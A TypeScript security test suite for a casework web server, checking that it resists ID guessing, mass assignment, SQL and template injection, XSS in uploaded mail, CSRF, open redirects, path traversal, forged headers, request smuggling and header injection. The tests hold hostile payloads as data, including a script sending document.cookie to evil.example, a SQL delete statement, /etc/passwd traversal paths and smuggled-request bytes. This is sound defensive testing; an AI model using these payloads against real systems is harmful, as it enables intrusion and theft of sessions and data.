import assert from "node:assert/strict";
import { once } from "node:events";
import { type AddressInfo, connect } from "node:net";
import test, { after } from "node:test";
import {
  accessRoutes,
  identificationRoutes,
  intakeRoutes,
  type Problem,
  standingRoutes,
} from "@varde/contract";
import { sql } from "kysely";
import { loginAs } from "../../apps/server/src/access/testing.ts";
import { seedCases } from "../composition/cases/seed-cases.ts";
import { openWholeServer } from "../composition/whole-server.ts";

const whole = await openWholeServer({ after });
const { app, installation } = whole;
const { db } = installation;
const cases = await seedCases(whole);
await app.listen({ port: 0, host: "127.0.0.1" });
const { port } = app.server.address() as AddressInfo;

const json = (body: unknown, headers: Record<string, string> = {}): RequestInit => ({
  method: "POST",
  body: JSON.stringify(body),
  headers: { "content-type": "application/json", ...headers },
});
const codeOf = async (answer: Response) => ((await answer.json()) as Problem).code;

/** What a server on a real connection answers to bytes that no well-behaved client sends; "" where it hangs up at once. */
async function raw(bytes: string): Promise<string> {
  const socket = connect(port, "127.0.0.1");
  let answer = "";
  socket.on("data", (chunk) => (answer += chunk.toString("latin1")));
  socket.on("error", () => {});
  await once(socket, "connect");
  socket.end(bytes.replaceAll("\n", "\r\n"), "latin1");
  await once(socket, "close");
  return answer;
}
const statusesOf = (answer: string) =>
  [...answer.matchAll(/^HTTP\/1\.1 (\d{3})/gm)].map(([, status]) => status);

test("guessing ids leads to nothing but one's own: cases, sessions, stand-ins", async () => {
  const ingrid = await loginAs(app, "firstLine");
  const amina = await loginAs(app, "secondLine");
  for (let id = 1; id <= 40; id++) {
    const answer = await ingrid.fetch(`/api/cases/${id}`);
    assert.equal(answer.ok, id === cases.firstLine || id === cases.handover, `case ${id}`);
    await answer.body?.cancel();
  }
  const { rows } = await sql<{ id: string }>`
    select public_id as id from access.sessions where person_id = ${amina.person.id}`.execute(db.app);
  for (const { id } of rows) {
    const answer = await ingrid.fetch(`/api/me/sessions/${id}`, { method: "DELETE" });
    assert.equal(answer.status, 404);
  }
  assert.equal((await amina.fetch("/api/me")).status, 200);
  const until = new Date(Date.now() + 3_600_000).toISOString();
  const elin = await loginAs(app, "secondLine", { subject: "Elin Vik" });
  const body = { standInId: elin.person.id, until, reason: "Kurs" };
  const { id } = await amina.call(standingRoutes.appointStandIn, { body });
  assert.equal((await ingrid.fetch(`/api/stand-ins/${id}/end`, json({}))).status, 403);
  await amina.call(standingRoutes.endStandIn, { params: { id } });
});

test("what the contract does not name is not taken over, whatever a body calls itself", async () => {
  const ingrid = await loginAs(app, "firstLine");
  const more = {
    roles: ["systemOwner"],
    id: "00000000-0000-4000-8000-000000000001",
    isAdmin: true,
    isService: true,
  };
  const proto =
    '{"language":"nn","__proto__":{"roles":["systemOwner"]},"constructor":{"prototype":{"isAdmin":true}}}';
  for (const body of [JSON.stringify({ language: "nn", ...more }), proto])
    await ingrid.fetch("/api/me/language", {
      method: "PUT",
      body,
      headers: { "content-type": "application/json" },
    });
  const { person, permissions } = await ingrid.call(accessRoutes.getMe);
  assert.deepEqual([person.id, person.roles, person.isService], [ingrid.person.id, ["firstLine"], undefined]);
  assert.ok(!permissions.includes("operate"));
  assert.equal(({} as { isAdmin?: boolean }).isAdmin, undefined);
  const standIn = {
    standInId: ingrid.person.id,
    until: new Date(Date.now() + 3_600_000).toISOString(),
    reason: "Ferie",
    givenBy: "Turid Nygård",
    absent_id: ingrid.person.id,
    state: "running",
    mayEnd: true,
  };
  assert.equal(await codeOf(await ingrid.fetch("/api/stand-ins", json(standIn))), "standInForOneself");
});

test("SQL in a search is words to look for, and finds nothing", async () => {
  const turid = await loginAs(app, "processOwner");
  for (const words of [
    "' or 1=1 --",
    "%' or '%'='",
    "'; delete from casework.alerts; --",
    "\\' or true; --",
    "%",
    "_",
  ]) {
    const query = new URLSearchParams({ search: words });
    const { rows } = (await (await turid.fetch(`/api/alerts?${query.toString()}`)).json()) as {
      rows: unknown[];
    };
    assert.deepEqual(rows, [], words);
    const found = await turid.fetch(`/api/search?${new URLSearchParams({ words }).toString()}`);
    if (found.ok) assert.deepEqual(((await found.json()) as { hits: unknown[] }).hits, [], words);
    else assert.equal(found.status, 400);
  }
  const { rows } = await sql<{ alerts: number }>`select count(*)::int as alerts from casework.alerts`.execute(
    db.app,
  );
  assert.ok((rows[0]?.alerts ?? 0) >= 3);
});

const TEMPLATES =
  "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} [[7*7]] #set($x=7*7) =7*7 {{constructor.constructor('return 1')()}}";

test("templates in what people write are text, and come back as they were", async () => {
  const ingrid = await loginAs(app, "firstLine");
  const answer = await ingrid.fetch(`/api/cases/${cases.firstLine}/notes`, json({ text: TEMPLATES }));
  const text = await answer.text();
  assert.equal(answer.status, 200, text);
  assert.ok(text.includes(JSON.stringify(TEMPLATES).slice(1, -1)));
  const entry = { kind: "alert", surname: TEMPLATES.slice(0, 80), birthDate: "1970-01-02" };
  const entered = await ingrid.fetch("/api/intake/alerts", json({ entry, source: TEMPLATES }));
  const { messageId } = (await entered.json()) as { messageId: number };
  const seen = await ingrid.call(intakeRoutes.getMessage, { params: { id: messageId } });
  assert.equal(seen.entries[0]?.fields.surname?.value, entry.surname);
});

const SCRIPT = `<script>fetch("http://evil.example/"+document.cookie)</script><img src=x onerror=alert(1)>`;
const HOSTILE_MAIL = [
  `From: "${SCRIPT.replaceAll('"', "'")}" <a@evil.example>`,
  `Subject: ${SCRIPT}`,
  "MIME-Version: 1.0",
  'Content-Type: multipart/mixed; boundary="x"',
  "",
  "--x",
  "Content-Type: text/html; charset=utf-8",
  "",
  `<html><body><p>Surname: Berg${SCRIPT}</p><img src="http://evil.example/pixel.gif"><link rel=stylesheet href=//evil.example></body></html>`,
  "--x",
  'Content-Type: text/html; name="../../<b>brev.html"',
  'Content-Disposition: inline; filename="../../<b>brev.html"',
  "",
  `<html>${SCRIPT}</html>`,
  "--x",
  'Content-Type: image/svg+xml; name="bilde.svg"',
  'Content-Disposition: inline; filename="bilde.svg"',
  "",
  `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>`,
  "--x--",
  "",
].join("\r\n");

test("script in a mail, its names and its attachments runs nowhere: it is text, or a file to save in a sandbox", async () => {
  const ingrid = await loginAs(app, "firstLine");
  const form = new FormData();
  form.append("file", new Blob([HOSTILE_MAIL]), `${SCRIPT.replaceAll("/", "")}.eml`);
  const uploaded = await ingrid.fetch("/api/intake/upload", { method: "POST", body: form });
  const { messages } = (await uploaded.json()) as { messages: { messageId: number }[] };
  const id = messages[0]?.messageId ?? 0;
  const { settleIntake } = await import("../../apps/server/src/casework/intake/index.ts");
  await settleIntake(installation.parts);
  const shown = await ingrid.fetch(`/api/intake/messages/${id}`);
  assert.match(shown.headers.get("content-type") ?? "", /^application\/json/);
  assert.equal(shown.headers.get("x-content-type-options"), "nosniff");
  const { parts } = (await shown.json()) as { parts: { path: string }[] };
  assert.ok(parts.length >= 2);
  const opened = await ingrid.fetch(`/api/intake/messages/${id}/identity-numbers`, {
    method: "POST",
    body: JSON.stringify({ purpose: "Laste ned det som kom inn" }),
    headers: { "content-type": "application/json" },
  });
  assert.equal(opened.status, 200);
  for (const address of ["original", ...parts.map(({ path }) => `parts/${path}`)]) {
    const file = await ingrid.fetch(`/api/intake/messages/${id}/${address}`);
    if (!file.ok) continue;
    await file.body?.cancel();
    assert.match(file.headers.get("content-disposition") ?? "", /^attachment/, address);
    assert.doesNotMatch(file.headers.get("content-disposition") ?? "", /\.\.[/\\]|[<>]/, address);
    assert.equal(file.headers.get("x-content-type-options"), "nosniff", address);
    assert.match(file.headers.get("content-security-policy") ?? "", /(^|;\s*)sandbox(;|$)/, address);
  }
});

test("the pages run no inline script and load nothing from elsewhere", async () => {
  for (const path of ["/", "/alerts", "/auth/login", "/demo-login/choose/x", "/api/me"]) {
    const answer = await fetch(`http://127.0.0.1:${port}${path}`, { redirect: "manual" });
    const policy = answer.headers.get("content-security-policy") ?? "";
    await answer.body?.cancel();
    assert.match(policy, /default-src 'self'/, path);
    assert.match(policy, /script-src 'self'(;|$)/, path);
    assert.match(policy, /frame-ancestors 'none'/, path);
    assert.doesNotMatch(policy, /unsafe-|https?:|\*|data:/, path);
    assert.equal(answer.headers.get("x-content-type-options"), "nosniff", path);
    assert.equal(answer.headers.get("x-frame-options"), "DENY", path);
    assert.equal(answer.headers.get("x-powered-by"), null, path);
  }
});

test("no other site acts with somebody's login: foreign origins, missing tokens and plain forms are refused", async () => {
  const ingrid = await loginAs(app, "firstLine");
  const { alertId } = (
    await sql<{ alertId: number }>`select min(id) as "alertId" from casework.alerts`.execute(db.app)
  ).rows[0]!;
  const address = `/api/alerts/${alertId}/decide`;
  const body = { decision: "ask", reason: "Hvem er dette?", versionId: 1, lastDecision: null };
  const before = await ingrid.call(identificationRoutes.getAlert, { params: { id: alertId } });
  const attempts: [string, RequestInit][] = [
    ["foreign origin", json(body, { origin: "https://evil.example" })],
    ["null origin", json(body, { origin: "null" })],
    ["lookalike origin", json(body, { origin: "http://localhost:3000.evil.example" })],
    ["cross-site fetch", json(body, { "sec-fetch-site": "cross-site" })],
    ["wrong token", json(body, { "x-csrf-token": "A".repeat(43) })],
    ["no token", json(body, { "x-csrf-token": "" })],
    ["a form", { method: "POST", body: new URLSearchParams({ decision: "ask" }) }],
    ["text", { method: "POST", body: JSON.stringify(body), headers: { "content-type": "text/plain" } }],
  ];
  for (const [name, init] of attempts) {
    const answer = await ingrid.fetch(address, init);
    assert.ok([403, 415].includes(answer.status), `${name}: ${answer.status}`);
    await answer.body?.cancel();
  }
  const after = await ingrid.call(identificationRoutes.getAlert, { params: { id: alertId } });
  assert.deepEqual(after.decisions, before.decisions);
});

test("login sends nobody to another site, however the page to return to is written", async () => {
  for (const returnTo of [
    "https://evil.example",
    "//evil.example",
    "/\\evil.example",
    "\\/evil.example",
    "/%5cevil.example",
    "javascript:alert(1)",
    "/\tevil",
    "/ /evil.example",
    "///evil.example",
    "http:evil.example",
    "/@evil.example",
  ]) {
    for (const path of ["/auth/login", "/auth/step-up"]) {
      const query = new URLSearchParams({ returnTo });
      const answer = await fetch(`http://127.0.0.1:${port}${path}?${query.toString()}`, {
        redirect: "manual",
      });
      await answer.body?.cancel();
      const location = answer.headers.get("location");
      if (location === null) continue;
      const target = new URL(location, `http://127.0.0.1:${port}`);
      assert.match(target.hostname, /^(127\.0\.0\.1|localhost)$/, `${path} ${returnTo}`);
    }
  }
});

test("no address leads out of the folder of the pages", async () => {
  const out = [
    "/../package.json",
    "/..%2fpackage.json",
    "/%2e%2e/%2e%2e/package.json",
    "/assets/..%2f..%2f..%2fpackage.json",
    "/assets/....//....//package.json",
    "/..%5c..%5cpackage.json",
    "/%252e%252e%252fpackage.json",
    "/assets/%00/../../package.json",
    "/.git/config",
    "//etc/passwd",
    "/%2fetc%2fpasswd",
  ];
  for (const path of out) {
    const answer = await raw(`GET ${path} HTTP/1.1\nHost: localhost:3000\nConnection: close\n\n`);
    assert.doesNotMatch(answer, /"workspaces"|root:x:|\[core\]/, path);
    assert.doesNotMatch(answer, /^HTTP\/1\.1 5(?!03)/, path);
  }
});

test("headers in a request make nobody else of the one who asks, nor another request of it", async () => {
  const forged = [
    "X-Forwarded-User: solveig",
    "X-Remote-User: solveig",
    "Remote-User: solveig",
    "X-Original-URL: /api/operations",
    "X-Rewrite-URL: /api/operations",
    "X-HTTP-Method-Override: DELETE",
    "X-Forwarded-Host: evil.example",
    "X-Forwarded-For: 10.0.0.1",
    "X-Test-Login: 1",
    "Authorization: Basic c29sdmVpZzo=",
  ];
  for (const header of forged) {
    const answer = await raw(
      `GET /api/operations HTTP/1.1\nHost: localhost:3000\n${header}\nConnection: close\n\n`,
    );
    assert.deepEqual(statusesOf(answer), ["401"], header);
    assert.doesNotMatch(answer, /evil\.example/, header);
  }
});

test("two requests hidden in one are refused as one, and the connection is closed", async () => {
  const hidden = "GET /api/operations HTTP/1.1\nHost: localhost:3000\n\n";
  const host = "POST /api/me/language HTTP/1.1\nHost: localhost:3000\n";
  const smuggled = [
    `${host}Content-Length: 5\nTransfer-Encoding: chunked\n\n0\n\n${hidden}`,
    `${host}Transfer-Encoding: chunked\nTransfer-Encoding: identity\n\n0\n\n${hidden}`,
    `${host}Transfer-Encoding : chunked\n\n0\n\n${hidden}`,
    `${host}Content-Length: 0\nContent-Length: ${hidden.length}\n\n${hidden}`,
    `${host}Content-Length: +0\n\n${hidden}`,
    `${host}X-A: b\n c: d\n\n`,
    `GET /api/me\u0000 HTTP/1.1\nHost: localhost:3000\n\n`,
    `GET /api/me HTTP/1.1\nHost: localhost:3000\nHost: evil.example\n\n`,
  ];
  for (const bytes of smuggled) {
    const statuses = statusesOf(await raw(bytes));
    assert.ok(statuses.length <= 1, `${JSON.stringify(bytes)} got ${statuses.join(" ")}`);
    assert.ok(
      statuses.every((status) => status?.startsWith("4")),
      `${JSON.stringify(bytes)} got ${statuses.join(" ")}`,
    );
  }
});

test("nothing that is sent comes back as a header", async () => {
  const ingrid = await loginAs(app, "firstLine");
  const evil = "x%0d%0aSet-Cookie:%20varde=stolen%0d%0a%0d%0a<script>";
  for (const path of [
    `/auth/login?returnTo=/${evil}`,
    `/api/alerts?search=${evil}`,
    `/${evil}`,
    `/api/intake/messages/1/parts/${evil}`,
  ]) {
    const answer = await ingrid.fetch(path);
    await answer.body?.cancel();
    assert.ok(
      ![...answer.headers.values()].some((value) => value.includes("stolen") && !value.startsWith("http")),
      path,
    );
    assert.ok(!answer.headers.getSetCookie().some((cookie) => cookie.includes("stolen")), path);
  }
});
